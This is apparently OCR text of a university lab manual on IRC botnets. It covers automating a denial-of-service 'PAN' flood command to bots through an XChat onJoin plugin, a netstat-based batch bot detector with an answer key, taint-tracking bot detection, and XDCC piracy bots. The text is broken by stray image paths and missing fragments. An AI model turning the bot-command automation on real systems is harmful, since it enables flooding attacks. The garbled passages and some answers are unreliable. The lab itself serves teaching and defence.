Since our current approach focuses on bots thatuse IRC for C&C, we focused in the paper on
IRC-based bots. We have also observed other bots, but these are rare and currently under
development. In a few months/years more and more bots will use non-IRC C&C, potentially
decentralized p2p-communication. So more research in this area is needed, attackers don't sleep.
As these threats continue to adapt and change, so to must the security community.

     Appendix C: Setting up Shared Folders in VMWare
1.     Make sure that the virtual machine is “Powered Off” (not just suspended).
2.     In the menu go to VM Settings
3.     Click on the Options tab
4.     Select “Shared Folders”
5.     Click “Add…”
6.     Name it however you would like.
7.     Enter the path of the folder on the host machine that you want to make available to the
       virtual machine. Typing in “/” will make the entire host filesystem available.
8.     Make sure “Enable this share” is selected, and click OK.
9.     Click OK again.10.    Power up the virtual machine.

In Linux, the share appears under /mnt/hgfs
In Windows, access it by typing //.host/Shared Folders in the run box of in the explorer address

Appendix D: onJoin plugin for XChat
         This lab demonstrated a couple of bots that could be used for a DoS attack. One problem
with our setup was that we had to manually enter the commands each time a new bot entered the
IRC channel. In order to more effectively carryout the attack, it would be beneficial to have the
process of giving commands automated. To do this we used a plugin for XChat called onjoin.
This plugin allows you to automatically send commands anytime a user enters the channel. The
files for the plugin can be found at There is a
customizable configuration file that can be adjusted for any type of IRC bot. The use of a script
like this allows the attacker to leave the IRC channel unattended but still allow the attacks to

The use of this XChat plugin uses the setup that was used in this lab for Section 3. It would fit
well after this section.

Installing and Configuring onJoin
   Copy the file from the NAS to your RedHat WS 4.0 machine.
   Unzip the file using the command “unzip”.
   Change to the newly created 005 directory.
   Open the _onjoin.conf file in a text editor.
   Put the following line at the top of the list of commands:
            o *             *                say PAN <WinXP IP> 80 10
   Save the file.
   Copy the _onjoin.conf and files to your /root/.xchat2 directory using the
        following commands:
            o cp _onjoin.conf /root/.xchat2/
            o cp /root/.xchat2/

Demonstrating the Use of onJoin
  If XChat is running close it. Also make surethe IRC server is running on RedHat WS
  Open XChat. At the top menu click on Window… Plugins and Scripts. You should see
     the onJoin plugin listed. If it isn’t listed, make sure the appropriate files are in your
     .xchat2 directory.
  Connect to the IRC server as you did in previous sections.
  Join the #ece4112 channel.
  Start Ethereal and begin capturing packets.
  On the RedHat 7.2 virtual machine run the q8Bot.
  Watch the XChat window running on RedHat WS 4.0. Within a couple of minutes the
     bot should log into the channel. As soon as this happens you should see a message
     generated by the plugin giving the PAN command.
  Once the command is issued you should notice packets being sent in Ethereal.

Screenshot of Ethereal and XChat before the bot enters.

Screenshot of the bot starting on the RedHat 7.2 virtual machine.

Screenshot of XChat and Ethereal after the bot has entered.

The edited _onjoin.conf file for use with q8Bot.

Appendix E:              IRCBotDetector
OS’s needed: RedHat WS 4.0
             Windows VM

Answers include: 6 questions
                 2 screenshots

Goals: In Section 2 we saw how SDBot can affect Windows machines. In this section we will
use IRCBotDetector to detect the presence of this bot. As IRCBotDetector is simply a Windows
bash file you willfirst need to familiarize yourself with batch scripting.

Background: In DOS and Windows, a batch file is a text file with a series of commands
intended to be executed by the command interpreter. When the batch file is run, the shell
program (usually or cmd.exe) reads the file and executes its commands. A batch
file is analogous to a shell script in Unix-like operating systems. A working knowledge ofshell
scripting is essential to anyone wishing to become reasonably proficient at system
administration, even if they do not anticipate ever having to actually write a script. We will not
do any serious batch scripting in this lab but for those interested there are plenty of tutorials and
books on bash(NUX)/batch(Windows) scripting. (Linux) (Windows)

1.1 Detecting Bots before they are connected to a Server
Open your virtual Windows OS and mount the NAS folder. Copy the IRCBot-Detector.bat file
from the Lab10 folder onto your Desktop. Right click on it and choose Edit. You will see many
@echo statements that echo the text that follows them to the command prompt. Find the line

netstat –an | find “:6667”

This line represents the detector’s first test and its purpose is to find established connections on
port 6667 (a commonly used IRC port). Modify the line such that the batch script will find
connections established by SDBot and save the modified file as IRCBot-Detector-Modified.bat.

Q1.1: What did you modify the line to?

Answer: port modified to a range that include 6668 or just the port 6668Q1.2: What is the purpose of the –a and –n flags?

Answer: -a displays all connections and listening ports
      -n displays addresses and port numbers in numerical form

Q1.3: Look at Test #2. What does it do and why?

Answer: sees if port 113 is being listened on. The bot willestablish a connection to the

Q1.4: Look at Test #3. Its purpose is to find rundil.exe. Why? (Hint: What is rundil.exe
used for?)

Answer: rundil.exe is a common name used to fake bot activity

Go to your SDBot folder and run the windows bot as you did in Section 2. DO NOT start the
IRC server on the RedHat 4.0 machine just yet!
Now run the modified batch file you just created. Observe the command prompt that appears.

Q1.5 Lookat the 3 tests that are being run. Did any test detect the presence of a bot on the
machine? (Hint: yes, which)

Answer: Only test 2 detects the presence of the bot

Screenshot#1: Take a screenshot of the prompt displaying the test that detected it.

You just learned: that the presence of a bot can be detected even though it is not connected to
an IRC server.

1.2 Detecting Bots while they are connected to a Server
On you RedHat 4.0 host machine open a terminal and start the irc server by typing once again:#usr/local/sbin/ircd –s

Once it is running disconnect as in Section 1 and type in the XChat window:

/server <WS4.0 IP> 6668

Once the server logs you in, join the ece4112 channel as you did in Section 1. Since your SDBot
is still running on the Windows machine you will most likely already find him in the ece4112
channel. Back on the Windows machine run the modified .bat file once again.

Q1.6 Look at the 3 tests being run. Did any test detect the presence of the bot on the
machine? (Hint: yes, which)

Answer: Only test 1 detects the presence of the bot by displaying aconnection established on
port 6668.

Screenshot#2: Take a screenshot of the prompt displaying the test that detected it.

Appendix F: Host-Based, Run-time Win32 Bot
This lab addition is meant to extend the content of the network and host-based bot detection
covered in Lab 10. Liz Stanton, a Masters student at Stanford University has developed a novel
approach for detecting host-based bot intrusions based on the syscalls executed via remote

As was shown in Lab 10, Section 4: HoneyNet Botnet Capture Analysis as well as Appendix E,
IRCBotDetector, there are several methods for detecting bots:

Network Based:
   Filtering (protocol, port, host, content-based)
   Look for traffic patterns (e.g. DynDNS – Dagon)
   Encrypted or obfuscated patterns; botwriters control the arena.

Host Based:
   View the listening ports (netstat –an)
            o Ports 6667 and 113 are common.
   Check running tasks for suspicious, hidden, or renamed services


Detection is based on observing the execution of parameterized bot commands for a variety of
Win32 bots (including variants of Agobot, DSNXbot, g-sysbot, SDbot, and Spybot). Since a bot
is controlled externally, a meta-level behavioral signature is used as a basis for detection. An
instance of an external control occurs when data from a remote source reaches a sink, for
example, parameters of system calls.

The detection system arbitrates calls to various functions and checks whether input to those
functions is tainted.

They developed two different modes under which the mechanism can operate; one mode is more
conservative whereas the other implements more relaxed semantics. The standard or more
conservative mode is called cause-and-effect semantics since using it, there will be a tight
relationship between receipt of some piece of data over the network and subsequent use of that
data in a gate. By contrast, under correlative semantics, (they say that) some input to a gate is thesame as some value received over the network. Correlative semantics provides resilience in the
face of out-of-band memory copies - those which are invisible to the interposition mechanism.

There are three components in their mechanism:
   1. Taint instantiators
   2. Taint propagators, and
   3. Taint checkers.

Initially all data (i.e. all memory regions) is considered untainted. All data from inbound
connections is treated as tainted. Taint propagators work in both directions between untainted
and tainted data: when a region is written to with tainted data, that destination region becomes
tainted; likewise when a tainted region is written to with untainted data, that tainted region is
detainted. Finally on calls to gate functions – those syscalls used to perform a variety of bot tasks
– the arguments to these system calls are checked for taintedness: optionally preventing calls
where the input is tainted.

By monitoring Win32 and native API function calls that perform critical tasks, such as process,
file management, and network interaction,malicious activity is identified. Through their
research, the team claims the ability to detect the execution of parameterized bot commands that
are not exhibited by most standard business applications.1

              Design                                                        Init


   instantiators         Tain
                             t pr

        (S_1)                                          G
                                             r on

                                                                  execute G


The implementation requires API Interposition and this is achieved by using Detours library.
Detours is a library for instrumenting arbitrary Win32 functions on x86, x64, and IA64
machines. Detours intercepts Win32 functions by re-writing the in-memory code for target
functions. The Detours package also contains utilities to attach arbitrary DLLs and data segments
(called payloads) to any Win32 binary.

               Pictorally – c/o detours folks
  Before:       1. Call

       Start          Target

               2. Return

  After:        1. Call        2. Jump       3. Call      4. JumpStart          Target        Detour       Trampoline     Target

                      6. Return                    5. Return


Single behavioral meta-signature detects wide variety of behaviors on majority of Win32 bots. It
is resilient to differences in implementation, resilient in face of unconstrained OOB copies,
resilient to encryption – w/some constraints. It is also resilient to changes in command-and-
control protocol (e.g. from IRC to HTTP) and parameters (e.g. for rendezvous point).



Appendix F: XDCC Bots

XDCC bots are a special set of bots that utilize send commands in IRC. Just like the other
malicious bots you have seen so far, these bots can be used to transfer files unknowingly to and
from an exploited machine. Specifically, XDCC bots are used in the piracy scene to transfer
illegal copies of software, music, movies, and other copyrighted works. More detailed
information on the background ofIRC XDCC can be found here:

Exercise _.1: IRC Piracy

Internet piracy has used many different software applications over the years. The most popular
clients like NAPSTER and Kazaa have been shutdown but piracy through IRC has been allowed
to persist for the past decade. The main reason for its continued success is because IRC was
developed for internet communication (much like an Instant Messenger) and had file sharing
added as an afterthought. In addition, the majority of those that share illegal files using IRC are
doing so without their knowledge as they have been root-kitted and had an xdcc bot installed on
their machine. What makes XDCC bots so dangerous is that they can be made accessible to the
general public (via an XDCC search engine) which allows for a large loss in bandwidth (due to
file transferring) and the ability to further exploit an already exploited machine. Screenshot 1
below shows PacketNews a typical XDCC search engine. It works much like a bittorrent search
engine in that you search for theitem you want and it returns all possible matches. You can then
